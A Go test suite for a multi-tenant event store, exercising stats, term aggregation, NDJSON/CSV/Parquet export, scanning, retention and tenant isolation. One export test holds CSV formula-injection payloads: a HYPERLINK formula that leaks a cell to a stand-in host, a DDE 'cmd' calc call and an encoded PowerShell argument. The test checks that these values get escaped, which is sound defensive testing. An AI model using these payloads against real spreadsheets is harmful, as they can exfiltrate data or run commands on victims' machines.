		{"users", st.TopUsers, count(func(ev event.Event) string { return ev.Fields.Str("user.name") })},
		{"sources", st.TopSources, count(func(ev event.Event) string { return ev.Fields.Str("source.ip") })},
		{"countries", st.TopCountries, count(func(ev event.Event) string { return ev.Fields.Str("source.geo.country_iso_code") })},
	}
	cats := map[string]int64{}
	for _, ev := range evs {
		for _, c := range ev.Fields["event.category"].([]string) {
			cats[c]++
		}
	}
	checks = append(checks, struct {
		name string
		got  []eventstore.TermCount
		want map[string]int64
	}{"category", st.ByCategory, cats})
	for _, c := range checks {
		if got := asMap(c.got); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: got %v, want %v", c.name, got, c.want)
		}
	}
	if len(st.TopHosts) != 10 || st.TopHosts[0] != (eventstore.TermCount{Term: "h00", Count: 12}) || st.TopHosts[9] != (eventstore.TermCount{Term: "h09", Count: 3}) {
		t.Errorf("top hosts: %v", st.TopHosts)
	}
	if len(st.OverTime) != 6 {
		t.Fatalf("%d buckets, want 6 (empty ones included)", len(st.OverTime))
	}
	var sum int64
	for i, bk := range st.OverTime {
		if !bk.Start.Equal(T0.Add(time.Duration(i) * time.Hour)) {
			t.Fatalf("bucket %d starts %v", i, bk.Start)
		}
		var sevs int64
		for _, c := range bk.BySeverity {
			sevs += c
		}
		if sevs != bk.Count {
			t.Fatalf("bucket %d: %d by severity, %d in all", i, sevs, bk.Count)
		}
		sum += bk.Count
		if (i == 2 || i == 5) != (bk.Count == 0) {
			t.Fatalf("bucket %d has %d events", i, bk.Count)
		}
	}
	if sum != st.Total {
		t.Fatalf("buckets hold %d, total %d", sum, st.Total)
	}
	h, err := s.Histogram(ctx, "s", eventstore.Query{From: T0, To: T0.Add(6 * time.Hour)}, time.Hour)
	if err != nil || h.Total != st.Total || h.Interval != time.Hour || !reflect.DeepEqual(h.Buckets, st.OverTime) {
		t.Fatalf("histogram %+v %v differs from Stats' %+v", h, err, st.OverTime)
	}
	if h, err := s.Histogram(ctx, "s", eventstore.Query{Severities: []string{"critical"}}, 0); err != nil || h.Total == 0 || h.Interval <= 0 {
		t.Fatalf("critical histogram: %+v %v", h, err)
	}
	// A query narrows everything; no time range spans its matches, not
	// the years of stored events.
	st, err = s.Stats(ctx, "s", eventstore.Query{Text: "host.name:h00"}, 0)
	if err != nil || st.Total != 12 || len(st.TopHosts) != 1 || st.Interval <= 0 || st.Interval > time.Hour || len(st.OverTime) == 0 ||
		st.OverTime[0].Start.Before(T0.Add(-st.Interval)) {
		t.Fatalf("narrowed stats: interval %v, %d buckets from %v: %v", st.Interval, len(st.OverTime), st.OverTime, err)
	}
	if all, err := s.Stats(ctx, "s", eventstore.Query{}, 0); err != nil || !all.OverTime[0].Start.Before(T0.AddDate(-2, 0, 0)) {
		t.Fatalf("all events: %v", err)
	}
	st, err = s.Stats(ctx, "nobody", eventstore.Query{}, time.Hour)
	if err != nil || st.Total != 0 {
		t.Fatalf("empty org stats: %+v %v", st, err)
	}
}

func testTerms(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	mustAppend(t, s, Fixture("a"))
	mustAppend(t, s, Fixture("b"))
	// An empty list is no value: the event does not have tags.
	mustAppend(t, s, []event.Event{{ID: "more", OrgID: "a", Timestamp: T0, Raw: "x", Fields: event.Fields{"event.type": []string{"start"},
		"http.request.method": "GET", "tags": []string{}, "custom.names": []string{"x", "y"}, "custom.empty": []string{}}},
		{ID: "more2", OrgID: "a", Timestamp: T0, Raw: "x", Fields: event.Fields{"custom.names": "x"}}})
	for _, tc := range []struct {
		q, field string
		size     int
		want     []eventstore.TermCount
		events   int64 // having the field, whatever the size
	}{
		{"", "event.type", 10, terms("start", 4, "access", 1, "connection", 1, "end", 1), 6},
		{"", "event.type", 2, terms("start", 4, "access", 1), 6},
		{"source.ip:10.0.0.0/8", "event.type", 10, terms("connection", 1, "end", 1, "start", 1), 2},
		{"", "event.dataset", 2, terms("system.auth", 2, "nginx.access", 1), 6},
		{"", "source.port", 10, terms("40022", 1, "51515", 1, "52314", 1), 3},
		{"", "http.request.method", 10, terms("GET", 1, "POST", 1), 2},
		{"", "source.ip", 1, terms("10.1.2.3", 2), 4},
		{"", "input", 10, terms("syslog", 6, "", 2, "agent", 2, "http", 1), 11},
		{"", "tags", 10, terms(event.TagParseError, 1, "encoded", 1, "suspicious", 1), 2},
		{"", "no.such.field", 10, terms(), 0},
		// Kept as JSON, not a column: a list's elements count, as in tags.
		{"", "custom.names", 10, terms("x", 2, "y", 1), 2},
		{"", "custom.names", 1, terms("x", 2), 2},
		{"", "custom.empty", 10, terms(), 0},
		{"nothing-matches", "user.name", 10, terms(), 0},
	} {
		got, err := s.Terms(ctx, "a", eventstore.Query{Text: tc.q}, tc.field, tc.size)
		if err != nil {
			t.Fatalf("terms of %s: %v", tc.field, err)
		}
		if !reflect.DeepEqual(got.Top, tc.want) || got.Events != tc.events {
			t.Errorf("terms of %s where %q: %v of %d events, want %v of %d", tc.field, tc.q, got.Top, got.Events, tc.want, tc.events)
		}
	}
	if _, err := s.Terms(ctx, "a", eventstore.Query{Text: "("}, "user.name", 10); !errors.Is(err, eventstore.ErrBadQuery) || errors.Is(err, eventstore.ErrBadField) {
		t.Errorf("bad query: %v", err)
	}
	// A field the store cannot read is told apart from a bad query, and
	// is one still.
	for _, field := range []string{"", `user"name`, "user\\name", "user\nname"} {
		if _, err := s.Terms(ctx, "a", eventstore.Query{}, field, 10); !errors.Is(err, eventstore.ErrBadField) || !errors.Is(err, eventstore.ErrBadQuery) {
			t.Errorf("field %q: %v", field, err)
		}
	}
}

// terms builds a []TermCount from term, count pairs.
func terms(kv ...any) []eventstore.TermCount {
	out := []eventstore.TermCount{}
	for i := 0; i < len(kv); i += 2 {
		out = append(out, eventstore.TermCount{Term: kv[i].(string), Count: int64(kv[i+1].(int))})
	}
	return out
}

func testExport(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	fx := Fixture("a")
	mustAppend(t, s, fx)
	mustAppend(t, s, Fixture("b"))
	byID := map[string]event.Event{}
	for _, ev := range fx {
		byID[ev.ID] = ev
	}

	var nd bytes.Buffer
	n, err := s.Export(ctx, "a", eventstore.Query{}, eventstore.FormatNDJSON, &nd)
	if err != nil || n != int64(len(fx)) {
		t.Fatalf("ndjson: %d %v", n, err)
	}
	lines := strings.Split(strings.TrimSuffix(nd.String(), "\n"), "\n")
	if len(lines) != len(fx) {
		t.Fatalf("ndjson: %d lines", len(lines))
	}
	var prev time.Time
	for _, l := range lines {
		var doc map[string]any
		if err := json.Unmarshal([]byte(l), &doc); err != nil {
			t.Fatalf("ndjson line %q: %v", l, err)
		}
		want, ok := byID[doc["_id"].(string)]
		if !ok {
			t.Fatalf("ndjson: unknown or foreign event %v", doc["_id"])
		}
		ts, err := time.Parse(time.RFC3339Nano, doc["@timestamp"].(string))
		if err != nil || !ts.Equal(want.Timestamp) || ts.Before(prev) {
			t.Fatalf("ndjson @timestamp %v (prev %v), want %v in order", doc["@timestamp"], prev, want.Timestamp)
		}
		prev = ts
		ev, _ := doc["event"].(map[string]any)
		if ev["original"] != want.Raw || ev["ingested"] == nil {
			t.Fatalf("ndjson event.*: %v", ev)
		}
		if u := want.Fields.Str("user.name"); u != "" && doc["user"].(map[string]any)["name"] != u {
			t.Fatalf("ndjson user.name: %v", doc["user"])
		}
	}

	// Newest first when asked: the same lines, reversed.
	var ndDesc bytes.Buffer
	if n, err := s.Export(ctx, "a", eventstore.Query{Order: eventstore.NewestFirst}, eventstore.FormatNDJSON, &ndDesc); err != nil || n != int64(len(fx)) {
		t.Fatalf("ndjson newest first: %d %v", n, err)
	}
	descLines := strings.Split(strings.TrimSuffix(ndDesc.String(), "\n"), "\n")
	slices.Reverse(descLines)
	if !slices.Equal(descLines, lines) {
		t.Fatalf("ndjson newest first is not the export reversed")
	}
	if _, err := s.Export(ctx, "a", eventstore.Query{Order: "up"}, eventstore.FormatNDJSON, &bytes.Buffer{}); !errors.Is(err, eventstore.ErrBadQuery) {
		t.Fatalf("export in order up: %v, want ErrBadQuery", err)
	}

	var cb bytes.Buffer
	n, err = s.Export(ctx, "a", eventstore.Query{Text: "source.ip:10.0.0.0/8"}, eventstore.FormatCSV, &cb)
	if err != nil || n != 2 {
		t.Fatalf("csv: %d %v", n, err)
	}
	recs, err := csv.NewReader(&cb).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %d records %v", len(recs), err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for _, h := range []string{"@timestamp", "_id", "message", "source.ip", "event.original"} {
		if _, ok := col[h]; !ok {
			t.Fatalf("csv header %v lacks %s", recs[0], h)
		}
	}
	for _, r := range recs[1:] {
		want := byID[r[col["_id"]]]
		if r[col["source.ip"]] != "10.1.2.3" || r[col["event.original"]] != want.Raw || r[col["message"]] != want.Fields.Str("message") {
			t.Fatalf("csv row %v", r)
		}
	}

	var pq bytes.Buffer
	n, err = s.Export(ctx, "a", eventstore.Query{Text: "event.dataset:system.auth"}, eventstore.FormatParquet, &pq)
	if err != nil || n != 2 {
		t.Fatalf("parquet: %d %v", n, err)
	}
	if p := pq.Bytes(); len(p) < 8 || string(p[:4]) != "PAR1" || string(p[len(p)-4:]) != "PAR1" {
		t.Fatalf("parquet: not a Parquet file (%d bytes)", len(p))
	}
	pq.Reset()
	if n, err := s.Export(ctx, "a", eventstore.Query{Text: "nothing-matches-this"}, eventstore.FormatParquet, &pq); err != nil || n != 0 || !bytes.HasPrefix(pq.Bytes(), []byte("PAR1")) {
		t.Fatalf("empty parquet: %d %v", n, err)
	}

	// Text an attacker wrote never becomes a spreadsheet formula: cells
	// that would start with = + - @ get an apostrophe first.
	evil := event.Event{OrgID: "c", ID: "evil", Timestamp: T0, Input: "http", Raw: `=HYPERLINK("http://x.test/?"&A1,"open")`,
		Fields: event.Fields{"message": "=1+cmd|' /C calc'!A0", "user.name": "@admin", "process.command_line": "-enc SQBFAFgA", "host.name": "web-01"}}
	mustAppend(t, s, []event.Event{evil})
	cb.Reset()
	if _, err := s.Export(ctx, "c", eventstore.Query{}, eventstore.FormatCSV, &cb); err != nil {
		t.Fatal(err)
	}
	recs, err = csv.NewReader(&cb).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %d records %v", len(recs), err)
	}
	for h, want := range map[string]string{"message": "'=1+cmd|' /C calc'!A0", "user.name": "'@admin", "process.command_line": "'-enc SQBFAFgA",
		"event.original": `'=HYPERLINK("http://x.test/?"&A1,"open")`, "host.name": "web-01", "_id": "evil"} {
		if got := recs[1][col[h]]; got != want {
			t.Errorf("csv %s = %q, want %q", h, got, want)
		}
	}
}

func testExportLarge(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	const n = 12_345
	for i := 0; i < n; i += 5000 {
		evs := Batch("x", fmt.Sprintf("l%d", i), min(5000, n-i), T0.Add(time.Duration(i)*time.Second))
		mustAppend(t, s, evs)
	}
	var buf bytes.Buffer
	got, err := s.Export(ctx, "x", eventstore.Query{}, eventstore.FormatNDJSON, &buf)
	if err != nil || got != n {
		t.Fatalf("export %d %v, want %d", got, err, n)
	}
	seen := map[string]bool{}
	var prev string
	for _, l := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
		var doc struct {
			ID string `json:"_id"`
			TS string `json:"@timestamp"`
		}
		if err := json.Unmarshal([]byte(l), &doc); err != nil {
			t.Fatal(err)
		}
		if seen[doc.ID] {
			t.Fatalf("%s exported twice", doc.ID)
		}
		seen[doc.ID] = true
		if doc.TS < prev {
			t.Fatalf("not in time order: %s after %s", doc.TS, prev)
		}
		prev = doc.TS
	}
	if len(seen) != n {
		t.Fatalf("%d distinct events exported, want %d", len(seen), n)
	}
}

// testScan: Scan hands over every matching event of the org once, oldest
// first, across partitions and chunks; fn's error stops it; a bad query is
// refused.
func testScan(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	const n = 12_345
	for i := 0; i < n; i += 5000 {
		// Spread over two days, appended newest first.
		at := T0.Add(36 * time.Hour).Add(-time.Duration(i) * 10 * time.Second)
		mustAppend(t, s, Batch("x", fmt.Sprintf("s%d", i), min(5000, n-i), at))
	}
	mustAppend(t, s, Batch("other", "o", 100, T0))
	seen := map[string]bool{}
	var scanned []string
	var prev time.Time
	var prevSeq int64
	chunks := 0
	err := s.Scan(ctx, "x", eventstore.Query{}, func(evs []event.Event) error {
		chunks++
		for _, ev := range evs {
			if ev.OrgID != "x" || seen[ev.ID] {
				return fmt.Errorf("event %s of org %s: foreign or twice", ev.ID, ev.OrgID)
			}
			seen[ev.ID] = true
			scanned = append(scanned, ev.ID)
			if ev.Timestamp.Before(prev) || ev.Timestamp.Equal(prev) && ev.Seq < prevSeq {
				return fmt.Errorf("%s at %v after %v: not oldest first", ev.ID, ev.Timestamp, prev)
			}
			if ev.Raw == "" || ev.Fields.Str("message") == "" {
				return fmt.Errorf("%s read without its raw text or fields", ev.ID)
			}
			prev, prevSeq = ev.Timestamp, ev.Seq
		}
		return nil
	})
	if err != nil || len(seen) != n || chunks < 2 {
		t.Fatalf("scan: %d events in %d chunks, %v; want %d", len(seen), chunks, err, n)
	}
	// An export newest first goes the other way through the same chunks
	// and partitions.
	var buf bytes.Buffer
	if got, err := s.Export(ctx, "x", eventstore.Query{Order: eventstore.NewestFirst}, eventstore.FormatNDJSON, &buf); err != nil || got != n {
		t.Fatalf("export newest first: %d %v, want %d", got, err, n)
	}
	var exported []string
	for _, l := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
		var doc struct {
			ID string `json:"_id"`
		}
		if err := json.Unmarshal([]byte(l), &doc); err != nil {
			t.Fatal(err)
		}
		exported = append(exported, doc.ID)
	}
	slices.Reverse(exported)
	if !slices.Equal(exported, scanned) {
		t.Fatal("export newest first is not the scan reversed")
	}
	// A query and a time range.
	count := 0
	err = s.Scan(ctx, "x", eventstore.Query{Text: "even", From: T0.Add(24 * time.Hour)}, func(evs []event.Event) error {
		for _, ev := range evs {
			if !strings.Contains(ev.Raw, "even") || ev.Timestamp.Before(T0.Add(24*time.Hour)) {
				return fmt.Errorf("%s does not match", ev.ID)
			}
			count++
		}
		return nil
	})
	if err != nil || count == 0 || count >= n {
		t.Fatalf("scan with a query: %d events, %v", count, err)
	}
	// fn's error ends the scan and is returned.
	stop := errors.New("enough")
	calls := 0
	if err := s.Scan(ctx, "x", eventstore.Query{}, func([]event.Event) error { calls++; return stop }); !errors.Is(err, stop) || calls != 1 {
		t.Fatalf("scan stopped by fn: %v after %d calls", err, calls)
	}
	if err := s.Scan(ctx, "x", eventstore.Query{Text: "a:[1 TO"}, func([]event.Event) error { return nil }); !errors.Is(err, eventstore.ErrBadQuery) {
		t.Fatalf("scan with a bad query: %v", err)
	}
}

func testRetention(t *testing.T, b Backend) {
	dir := t.TempDir()
	s := b.Open(t, dir)
	day := func(d int) time.Time { return T0.Add(time.Duration(d) * 24 * time.Hour) }
	for d := range 3 {
		mustAppend(t, s, Batch("a", fmt.Sprintf("a%d", d), 10, day(d)))
		mustAppend(t, s, Batch("b", fmt.Sprintf("b%d", d), 10, day(d)))
	}
	last, _ := s.LastSeq(ctx)
	cut := day(1)
	n, err := s.DeleteBefore(ctx, "a", cut)
	if err != nil || n != 10 {
		t.Fatalf("delete a before day 1: %d %v, want 10", n, err)
	}
	total := func(org string) int64 {
		p, err := s.Search(ctx, org, eventstore.Query{})
		if err != nil {
			t.Fatal(err)
		}
		return p.Total
	}
	if total("a") != 20 || total("b") != 30 {
		t.Fatalf("after a's retention: a %d b %d, want 20 30", total("a"), total("b"))
	}
	if _, err := s.Get(ctx, "a", "a0-1"); !errors.Is(err, eventstore.ErrNotFound) {
		t.Fatalf("deleted event still there: %v", err)
	}
	// Now nobody keeps day 0: its partition goes.
	if n, err := s.DeleteBefore(ctx, "b", cut); err != nil || n != 10 {
		t.Fatalf("delete b before day 1: %d %v", n, err)
	}
	if n, err := s.DeleteBefore(ctx, "b", cut); err != nil || n != 0 {
		t.Fatalf("delete again: %d %v", n, err)
	}
	// Everything of a goes, the newest events included; seqs go on.
	if n, err := s.DeleteBefore(ctx, "a", day(10)); err != nil || n != 20 {
		t.Fatalf("delete all of a: %d %v", n, err)
	}
	if total("a") != 0 || total("b") != 20 {
		t.Fatalf("a %d b %d, want 0 20", total("a"), total("b"))
	}
	if n, _ := s.DeleteBefore(ctx, "b", day(10)); n != 20 {
		t.Fatalf("delete all of b: %d", n)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s = open(t, b, dir)
	if got, _ := s.LastSeq(ctx); got != last {
		t.Fatalf("LastSeq after dropping everything and a restart: %d, want %d", got, last)
	}
	res := mustAppend(t, s, Batch("a", "again", 1, day(0)))
	if res.Stored[0].Seq <= last {
		t.Fatalf("seq %d reused (last %d)", res.Stored[0].Seq, last)
	}
}

func testTenantIsolation(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	mustAppend(t, s, Fixture("a"))
	mustAppend(t, s, Fixture("b"))
	// b's IDs are not a's.
	if _, err := s.Get(ctx, "a", "b-e1"); !errors.Is(err, eventstore.ErrNotFound) {
		t.Fatalf("org a got org b's event: %v", err)
	}
	// Same client ID in both orgs: each sees its own.
	mustAppend(t, s, []event.Event{{ID: "shared", OrgID: "a", Timestamp: T0, Raw: "a's"}, {ID: "shared", OrgID: "b", Timestamp: T0, Raw: "b's"}})
	for _, org := range []string{"a", "b"} {
		ev, err := s.Get(ctx, org, "shared")
		if err != nil || ev.OrgID != org || ev.Raw != org+"'s" {
			t.Fatalf("org %s shared: %+v %v", org, ev, err)
		}
	}
	for _, tc := range SearchCases {
		search(t, s, "a", eventstore.Query{Text: tc.Q}) // fails on a foreign event
	}
	st, err := s.Stats(ctx, "a", eventstore.Query{}, time.Hour)
	if err != nil || st.Total != 10 {
		t.Fatalf("stats of a: %d %v, want 10", st.Total, err)
	}
	var buf bytes.Buffer
	if _, err := s.Export(ctx, "a", eventstore.Query{}, eventstore.FormatNDJSON, &buf); err != nil || strings.Contains(buf.String(), `"b-e`) || strings.Contains(buf.String(), "b's") {
		t.Fatalf("export of a shows b: %v", err)
	}
	if n, err := s.DeleteBefore(ctx, "a", time.Date(3000, 1, 1, 0, 0, 0, 0, time.UTC)); err != nil || n != 10 {
		t.Fatalf("delete all of a: %d %v", n, err)
	}
	if p, _ := s.Search(ctx, "b", eventstore.Query{}); p.Total != 10 {
		t.Fatalf("a's retention touched b: %d left", p.Total)
	}
	if p, _ := s.Search(ctx, "", eventstore.Query{}); p.Total != 0 {
		t.Fatalf("the empty org sees %d events", p.Total)
	}
}

func testFarOffTimestamps(t *testing.T, b Backend) {
	dir := t.TempDir()
	s := b.Open(t, dir)
	var evs []event.Event
	for i, ts := range []time.Time{
		time.Unix(0, 0).UTC(), time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC), time.Date(1999, 12, 31, 23, 59, 59, 0, time.UTC),
		time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC), T0,
	} {
		evs = append(evs, event.Event{ID: fmt.Sprint("t", i), OrgID: "a", Timestamp: ts, Ingested: T0, Raw: "clock " + fmt.Sprint(i)})
	}
	mustAppend(t, s, evs)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s = open(t, b, dir)
	for _, ev := range evs {
		got, err := s.Get(ctx, "a", ev.ID)
		if err != nil || !got.Timestamp.Equal(ev.Timestamp) {
			t.Fatalf("get %s: %v %v, want %v", ev.ID, got.Timestamp, err, ev.Timestamp)
		}
	}
	if got := search(t, s, "a", eventstore.Query{To: time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC)}); !slices.Equal(got, ids("t0 t1 t2")) {
		t.Fatalf("before 2000: %v", got)
	}
	if got := search(t, s, "a", eventstore.Query{From: time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC)}); !slices.Equal(got, ids("t3 t4")) {
		t.Fatalf("after 2099: %v", got)
	}
	if got := search(t, s, "a", eventstore.Query{Text: "clock"}); len(got) != 6 {
		t.Fatalf("all clocks: %v", got)
	}
}

func testInvalidAndClosed(t *testing.T, b Backend) {
	s := b.Open(t, t.TempDir())
	if _, err := s.Append(ctx, []event.Event{{ID: "x", Raw: "no org"}}); !errors.Is(err, eventstore.ErrInvalidEvent) {
		t.Fatalf("event without org: %v, want ErrInvalidEvent", err)
	}
	if res, err := s.Append(ctx, nil); err != nil || len(res.Stored) != 0 {
		t.Fatalf("empty append: %+v %v", res, err)
	}
	if err := s.Ping(ctx); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Append(ctx, Batch("a", "x", 1, T0)); !errors.Is(err, eventstore.ErrClosed) {
		t.Fatalf("append after close: %v", err)
	}
	if _, err := s.Search(ctx, "a", eventstore.Query{}); !errors.Is(err, eventstore.ErrClosed) {
		t.Fatalf("search after close: %v", err)
	}
	if err := s.Ping(ctx); !errors.Is(err, eventstore.ErrClosed) {
		t.Fatalf("ping after close: %v", err)
	}
}
